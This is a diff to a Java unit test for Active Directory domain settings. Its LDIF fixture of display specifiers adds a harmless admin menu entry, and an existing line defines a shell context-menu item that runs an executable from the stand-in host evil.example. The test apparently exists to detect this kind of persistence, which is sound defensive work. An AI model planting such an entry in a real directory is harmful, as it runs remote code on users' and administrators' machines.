@@ -80,6 +80,10 @@ final class DomainSettingsTest {
             adminContextMenu: 2,{6971d64e-f335-11d0-b0bc-00c04fd8dca6}
             adminContextMenu: 1,{08eb4fa6-6ffd-11d1-b0e0-00c04fd8dca6}
             shellContextMenu: 9,Outil,\\\\evil.example\\pub\\evil.exe
+
+            dn: CN=remoteStorageServicePoint-Display,CN=409,CN=DisplaySpecifiers,CN=Configuration,{domain}
+            objectClass: displaySpecifier
+            adminContextMenu: 0,&Manage...,RsAdmin.msc
             """);
         assertEquals(
                 Set.of("CN=user-Display,CN=409,CN=DisplaySpecifiers,CN=Configuration,{domain} | menu shellContextMenu |"
